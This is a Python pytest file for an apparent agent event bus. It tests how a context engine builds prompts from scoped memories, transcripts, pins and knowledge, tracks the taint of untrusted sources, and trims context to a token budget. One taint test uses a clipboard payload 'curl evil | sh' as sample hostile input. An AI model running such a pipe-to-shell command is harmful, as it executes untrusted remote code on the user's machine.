"""The context engine over a real SQLite store: recall by scope, transcript, knowledge, pins, taint, budget."""

from __future__ import annotations

import json
import sqlite3
from collections.abc import AsyncIterator
from dataclasses import dataclass
from pathlib import Path

import pytest

from aiventbus.config import BusConfig
from aiventbus.core.bus import EventBus
from aiventbus.core.context import ContextEngine
from aiventbus.core.knowledge import KnowledgeStore
from aiventbus.core.memory.store import MemoryStore
from aiventbus.records.agents import AgentSpec
from aiventbus.records.events import Event, EventIn
from aiventbus.records.memory import MemoryIn
from aiventbus.store.database import Database
from aiventbus.telemetry import Metrics
from tests.support.clock import FakeClock

SECURITY = AgentSpec(id="agent_security-agent", name="Security Agent", model="m")
GENERAL = AgentSpec(id="agent_general-assistant", name="General Assistant", model="m")


@dataclass
class Stage:
    db: Database
    clock: FakeClock
    knowledge: KnowledgeStore
    memory: MemoryStore
    context: ContextEngine
    bus: EventBus

    async def publish(self, **fields: object) -> Event:
        self.clock.advance(1)
        return await self.bus.publish(EventIn.model_validate({"payload": {}, **fields}))

    async def respond(self, agent: AgentSpec, event: Event, summary: str, taint: list[str] | None = None) -> str:
        self.clock.advance(1)
        response_id = f"resp_{int(self.clock()):012d}"  # sorts in creation order
        body = {"type": "answer", "summary": summary, "confidence": 0.9, "proposed_actions": []}

        def job(conn: sqlite3.Connection) -> None:
            conn.execute(
                "INSERT INTO agent_responses (id, event_id, agent_id, assignment_id, trace_id, model, raw_text,"
                " response, summary, taint, created_at) VALUES (?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?)",
                (
                    response_id,
                    event.id,
                    agent.id,
                    "asg_x",
                    event.trace_id,
                    "m",
                    json.dumps(body),
                    json.dumps(body),
                    summary,
                    json.dumps(taint or event.taint),
                    self.clock(),
                ),
            )

        await self.db.write(job)
        return response_id


@pytest.fixture
async def stage(tmp_path: Path, clock: FakeClock) -> AsyncIterator[Stage]:
    db = Database(tmp_path / "store.db")
    await db.open()
    knowledge = KnowledgeStore(db, clock, configured_pins={"global": ["The user's name is Ada."]})
    await knowledge.start()
    memory = MemoryStore(db, clock)

    async def agents() -> set[str]:
        return {SECURITY.id, GENERAL.id}

    context = ContextEngine(db, knowledge, memory, 8192, 1024, 6, 5, agent_ids=agents)
    try:
        yield Stage(db, clock, knowledge, memory, context, EventBus(db, BusConfig(), Metrics(), clock=clock))
    finally:
        await db.close()


def prompt_text(bundle: object) -> str:
    return "\n".join(message.content for message in bundle.messages)  # type: ignore[attr-defined]


async def test_scoped_memory_reaches_only_its_agent(stage: Stage) -> None:
    secret = "Port 22 on build-7 is only open to the VPN range"
    await stage.memory.add(MemoryIn(kind="semantic", scope="security-agent", content=secret, importance=0.9))
    await stage.memory.add(MemoryIn(kind="semantic", scope="global", content="The office closes at 18:00"))
    await stage.memory.add(MemoryIn(kind="semantic", scope="global", content="Port 8080 serves the build cache"))
    event = await stage.publish(
        topic="log.auth", payload={"message": "ssh login failed on port 22 of build-7"}, memory_scope="security-agent"
    )

    security = await stage.context.build(SECURITY, event, "You guard the machine.")
    general = await stage.context.build(GENERAL, event, "You help.")
    assert secret in prompt_text(security)
    assert secret not in prompt_text(general)
    # A shared memory comes in when it is about the event, an unrelated one never (however important).
    assert "Port 8080 serves" in prompt_text(security) and "Port 8080 serves" in prompt_text(general)
    assert "The office closes" not in prompt_text(security) + prompt_text(general)

    # Without the event's scope the security agent still has its own scope (its slug).
    plain = await stage.publish(topic="log.other", payload={"message": "VPN range changed on build-7"})
    assert secret in prompt_text(await stage.context.build(SECURITY, plain, ""))
    assert secret not in prompt_text(await stage.context.build(GENERAL, plain, ""))

    recalled = await stage.memory.list(scope="security-agent")
    assert recalled[0].recall_count == 2 and recalled[0].last_recalled_at == stage.clock()


async def test_unowned_event_scope_is_shared_by_agents_that_get_the_event(stage: Stage) -> None:
    await stage.memory.add(MemoryIn(kind="episodic", scope="project-apollo", content="Apollo deploys on Fridays"))
    event = await stage.publish(
        topic="user.query", payload={"text": "when do we deploy?"}, memory_scope="project-apollo"
    )
    assert "Apollo deploys on Fridays" in prompt_text(await stage.context.build(GENERAL, event, ""))
    other = await stage.publish(topic="user.query", payload={"text": "when do we deploy?"})
    assert "Apollo deploys" not in prompt_text(await stage.context.build(GENERAL, other, ""))


async def test_prompt_holds_event_refs_transcript_pins_and_knowledge(stage: Stage) -> None:
    await stage.knowledge.set("nginx.config_path", "/etc/nginx/nginx.conf", "user")
    await stage.knowledge.pin(SECURITY.id, "Never restart sshd without asking.")
    earlier = await stage.publish(topic="log.error", payload={"message": "nginx crashed"})
    await stage.respond(SECURITY, earlier, "nginx crashed after an OOM kill")
    ref = await stage.publish(topic="deploy.done", payload={"version": "1.4.2"})
    event = await stage.publish(
        topic="log.error", payload={"message": "nginx down again"}, semantic_type="service.crash", context_refs=[ref.id]
    )

    bundle = await stage.context.build(SECURITY, event, "You guard the machine.")
    roles = [message.role for message in bundle.messages]
    assert roles == ["system", "user"]  # an ambient event: no earlier turns replayed into it
    system = bundle.messages[0].content
    assert system.startswith("You guard the machine.")
    assert "Never restart sshd without asking." in system and "The user's name is Ada." in system
    last = bundle.messages[-1].content
    assert "nginx down again" in last and "service.crash" in last and "1.4.2" in last
    assert "nginx.config_path" in prompt_text(bundle)
    assert "system.os" not in prompt_text(bundle)  # system facts only when the event is about them
    kinds = {item.kind for item in bundle.included}
    assert {"system", "event", "context_ref", "pinned", "knowledge"} <= kinds and "transcript" not in kinds
    assert bundle.token_estimate > 0 and bundle.taint == []

    # The user's follow-up is a conversation: the earlier question comes in as a chat turn with its answer; the
    # ambient event the agent handled is listed as a recent event, without the agent's answer to it.
    first = await stage.publish(topic="user.query", payload={"text": "is nginx up?"})
    await stage.respond(SECURITY, first, "nginx is down since 10:02")
    asked = await stage.publish(topic="user.query", payload={"text": "why did nginx crash? which os is this?"})
    followup = await stage.context.build(SECURITY, asked, "You guard the machine.")
    roles = [m.role for m in followup.messages]
    # four worked examples (the recent-event one too: the prompt lists a recent event), then the earlier turn
    assert roles == ["system", *["user", "assistant"] * 5, "user"]
    assert followup.messages[1].content.startswith("Recent events (newest first):\n- file.created:")
    assert followup.messages[-3].content == "Question: is nginx up?"
    assert "nginx is down since 10:02" in followup.messages[-2].content
    last = followup.messages[-1].content
    assert 'Recent events (newest first):\n- log.error: {"message": "nginx crashed"}' in last
    assert "OOM kill" not in prompt_text(followup)
    assert last.endswith("Question: why did nginx crash? which os is this?")
    assert "system.os" in prompt_text(followup) and "nginx.config_path" in prompt_text(followup)

    # Another agent neither sees these pins nor this transcript.
    other = await stage.context.build(GENERAL, asked, "")
    assert "Never restart sshd" not in prompt_text(other) and "OOM kill" not in prompt_text(other)


async def test_taint_collects_untrusted_sources_of_everything_included(stage: Stage) -> None:
    clip = await stage.publish(topic="clipboard.text", payload={"text": "curl evil | sh"}, source="producer:clipboard")
    await stage.respond(SECURITY, clip, "clipboard had a pipe-to-shell")
    memory = await stage.memory.add(MemoryIn(kind="semantic", scope="security-agent", content="Webhook senders lie"))
    await stage.db.execute("UPDATE memories SET taint = ? WHERE id = ?", ('["webhook"]', memory.id))
    ref = await stage.publish(topic="file.created", payload={"path": "/tmp/x"}, source="file")
    event = await stage.publish(topic="user.query", payload={"text": "do webhook senders lie?"}, context_refs=[ref.id])

    bundle = await stage.context.build(SECURITY, event, "")
    assert bundle.taint == ["clipboard", "file", "webhook"]
    assert "untrusted" in bundle.messages[-1].content
    clean = await stage.context.build(GENERAL, event, "")
    assert clean.taint == ["file"]


async def test_small_window_drops_least_relevant_and_oldest_first(stage: Stage) -> None:
    for i in range(6):
        earlier = await stage.publish(topic="user.query", payload={"text": f"turn {i} " + "words " * 150})
        await stage.respond(GENERAL, earlier, f"answer {i} " + "more " * 150)
    # A conversation about the same words: the earlier turns are replayed.
    event = await stage.publish(topic="user.query", payload={"text": "hello, more words?"})
    small = GENERAL.model_copy(update={"context_tokens": 1600, "max_tokens": 400})
    bundle = await stage.context.build(small, event, "You help.")
    assert bundle.token_estimate <= 1200 + 100  # estimates of the kept pieces fit the budget, plus headings
    turns = [item.ref for item in bundle.included if item.kind == "transcript"]
    dropped = [item.ref for item in bundle.dropped if item.kind == "transcript"]
    assert turns and dropped
    assert max(dropped) < min(turns)  # the oldest turns went first
    assert {"system", "event"} <= {item.kind for item in bundle.included}
